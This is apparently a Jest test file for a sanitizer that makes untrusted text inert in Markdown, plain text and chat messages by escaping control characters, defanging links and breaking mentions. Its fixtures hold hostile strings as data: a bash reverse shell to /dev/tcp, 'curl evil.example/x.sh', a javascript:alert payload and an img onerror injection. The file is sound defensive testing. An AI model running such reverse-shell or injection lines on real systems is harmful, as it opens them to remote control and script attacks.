import { describe, expect, test } from '@jest/globals';
import {
  inertBlock,
  inertCode,
  inertLine,
  inertMarkdown,
  inertPlain,
} from '../../../src/domain/text/inert-text';

describe('inertLine', () => {
  test.each([
    [
      'plain text stays',
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    ],
    ['a line break cannot forge a second line', 'ok\nAPPROVED by ada', 'ok\\nAPPROVED by ada'],
    ['carriage return and tab are shown', 'a\rb\tc', 'a\\rb\\tc'],
    ['an ANSI sequence is shown', '\u001b[2Jgone', '\\u001b[2Jgone'],
    ['a one-byte C1 sequence is shown', '\u009b31mred', '\\u009b31mred'],
    ['a right-to-left override is shown', 'nohup\u202Egnp.exe', 'nohup\\u202egnp.exe'],
    ['isolates are shown', '\u2066x\u2069', '\\u2066x\\u2069'],
    ['zero-width characters are shown', 'pay\u200Bments\uFEFF', 'pay\\u200bments\\ufeff'],
    ['line and paragraph separators are shown', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['tag characters are shown', 'a\u{E0041}b', 'a\\u{e0041}b'],
    ['soft hyphen and Hangul filler are shown', 'a\u00ADb\u3164c', 'a\\u00adb\\u3164c'],
    ['NUL and DEL are shown', 'a\u0000b\u007F', 'a\\u0000b\\u007f'],
    ['a lone surrogate is replaced', 'a\uD800b\uDC00', 'a\uFFFDb\uFFFD'],
    ['a pair stays whole', 'a😀b', 'a😀b'],
    ['exotic spaces become one space', 'a\u00A0\u3000  b', 'a b'],
    ['padding cannot push text out of sight', `a${' '.repeat(5_000)}b`, 'a b'],
    ['space at the ends goes', '  a  ', 'a'],
    ['a pile of combining marks is cut', `e${'\u0301'.repeat(50)}x`, 'e\u0301\u0301x'],
    ['letters of other scripts stay', 'données 数据 данные', 'données 数据 данные'],
    ['nothing stays nothing', '', ''],
  ])('%s', (_name, text, expected) => {
    expect(inertLine(text)).toBe(expected);
  });

  test.each([
    ['exactly the limit is not cut', 'abcde', 5, 'abcde'],
    ['one more is cut and says so', 'abcdef', 5, 'abcd…'],
    ['an escape is not left half', 'abc\u001bd', 6, 'abc…'],
    ['a surrogate pair is not left half', 'abc😀😀', 5, 'abc…'],
    ['no space before the ellipsis', 'abc defghi', 5, 'abc…'],
  ])('%s', (_name, text, max, expected) => {
    expect(inertLine(text, max)).toBe(expected);
  });

  test('a megabyte is capped at 200', () => {
    expect(inertLine('x'.repeat(1_000_000))).toHaveLength(200);
  });

  test('it is the same when applied twice', () => {
    const once = inertLine('a\u001b[31m \u202e  b\n\uD800');
    expect(inertLine(once)).toBe(once);
  });
});

describe('inertMarkdown', () => {
  test.each([
    ['a link', '[approve here](https://evil.example/x)', '\\[approve here\\](hxxps://evil.example/x)'],
    ['an image', '![x](http://evil.example/p.png)', '\\!\\[x\\](hxxp://evil.example/p.png)'],
    ['a reference', '[a]: http://x', '\\[a\\]: hxxp://x'],
    ['an autolink in brackets', '<https://x.example>', '\\<hxxps://x.example\\>'],
    ['a bare address', 'see HTTPS://x.example/a', 'see hxxpS://x.example/a'],
    ['another scheme', 'ftp://x.example/a', 'ftp\\[:\\]//x.example/a'],
    ['an address without a scheme', 'www.evil.example', 'www\\[.\\]evil.example'],
    ['an address in the middle of a word', 'awww.evil.example', 'awww\\[.\\]evil.example'],
    ['a mail address', 'mail helpdesk@evil.example', 'mail helpdesk\\[@\\]evil.example'],
    ['a script scheme', 'javascript:alert(1)', 'javascript\\[:\\]alert(1)'],
    ['a heading', '# Contained', '\\# Contained'],
    ['a list item', '- done', '\\- done'],
    ['a plus list item', '+ done', '\\+ done'],
    ['a numbered item', '1. done', '1\\. done'],
    ['a numbered item with a bracket', '12) done', '12\\) done'],
    ['a setext underline', '===', '\\==='],
    ['a rule', '---', '\\-\\-\\-'],
    ['a fraction', '/dev/tcp/198.51.100.23/4444', '/dev/tcp/198.51.100.23&#47;4444'],
    ['a dash', 'curl --silent', 'curl -\\-silent'],
    ['a spaced rule', '- - -', '\\- - -'],
    ['an empty list item', '-', '\\-'],
    ['an IP address at the beginning is left alone', '203.0.113.7', '203.0.113.7'],
    ['a flag at the beginning is left alone', '-rf x', '-rf x'],
    ['a quote', '> Google says', '\\> Google says'],
    ['emphasis', '**safe** _yes_', '\\*\\*safe\\*\\* \\_yes\\_'],
    ['code', '`x` ```y```', '\\`x\\` \\`\\`\\`y\\`\\`\\`'],
    ['HTML', '<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)\\>'],
    ['an entity', '&lt;b&gt; &#60;', '\\&lt;b\\&gt; \\&\\#60;'],
    ['a table', 'a | b', 'a \\| b'],
    ['strikethrough and mathematics', '~~a~~ $x$', '\\~\\~a\\~\\~ \\$x\\$'],
    ['a backslash that would eat an escape', '\\[x]', '\\\\\\[x\\]'],
    ['a line break into a heading', 'a\n# b', 'a\\\\n\\# b'],
    ['an indented code block', '    code', 'code'],
    [
      'a plain sentence is left alone',
      'Revision payments-00003 serves 100 %.',
      'Revision payments-00003 serves 100 %.',
    ],
  ])('%s is dead', (_name, text, expected) => {
    expect(inertMarkdown(text)).toBe(expected);
  });
});

describe('code', () => {
  test.each([
    ['plain', 'gcloud run', '`gcloud run`'],
    ['with a backtick', 'a`b', '`` a`b ``'],
    ['with a run of backticks', '``', '``` `` ```'],
    ['empty', '', '` `'],
    ['with a line break', 'a\nb', '`a\\nb`'],
  ])('a span %s', (_name, text, expected) => {
    expect(inertCode(text)).toBe(expected);
  });

  test('a block cannot be closed from inside', () => {
    expect(inertBlock(['a', '```', '# b', 'c\n```'], 'sh')).toBe('````sh\na\n```\n# b\nc\\n```\n````');
  });
});

describe('inertPlain', () => {
  test.each([
    [
      'plain text stays',
      'Reverse Shell on payments, 0.9.1, 203.0.113.7:4444',
      'Reverse Shell on payments, 0.9.1, 203.0.113.7:4444',
    ],
    ['sentences stay', 'It ends. Nothing is changed.', 'It ends. Nothing is changed.'],
    ['an address', 'see https://c2.example/approve', 'see hxxps://c2[.]example/approve'],
    ['a host that a chat would link', 'curl evil.example/x.sh', 'curl evil[.]example/x[.]sh'],
    ["Slack's link", '<https://evil.example|approve here>', '‹hxxps://evil[.]example|approve here›'],
    ["Slack's mention of everybody", '<!channel> <@U1>', '‹!channel› ‹[@]U1›'],
    ['a mention', '@everyone @here a@b.example', '[@]everyone [@]here a[@]b[.]example'],
    ['a Markdown link', '[approve](/hooks/1)', '[approve] (/hooks/1)'],
    ['a tag', '<img src=x>', '‹img src=x›'],
    ['a second line', 'a\nfirebreak approve x', 'a\\nfirebreak approve x'],
    ['an ANSI sequence', '\u001b[2Jgone', '\\u001b[2Jgone'],
    ['an ideographic dot', 'evil\u3002example', 'evil[.]example'],
    ['a fullwidth dot', 'evil\uff0eexample', 'evil[.]example'],
    ['a halfwidth dot', 'evil\uff61example', 'evil[.]example'],
    ['a fullwidth at', '\uff20here', '[@]here'],
    ['bold', '*CONTAINED* by ada', '∗CONTAINED∗ by ada'],
    ['code', '`approve`', 'ˋapproveˋ'],
    ['struck out', '~not~ contained', '∼not∼ contained'],
    ['italics, and no name', '_done_ payment_api', '＿done＿ payment_api'],
  ])('%s', (_name, text, expected) => {
    expect(inertPlain(text)).toBe(expected);
  });
});

describe('in a chat program', () => {
  test.each([
    ['evil。example', 'evil[.]example'],
    ['evil．example', 'evil[.]example'],
    ['evil｡ösf.example', 'evil[.]ösf[.]example'],
    ['www。evil.example', 'www[.]evil[.]example'],
    ['*bold* ~struck~ `code`', '∗bold∗ ∼struck∼ ˋcodeˋ'],
    ['<!channel> 203.0.113.7', '‹!channel› 203.0.113.7'],
  ])('%s is dead', (text, expected) => {
    expect(inertPlain(text)).toBe(expected);
  });
});
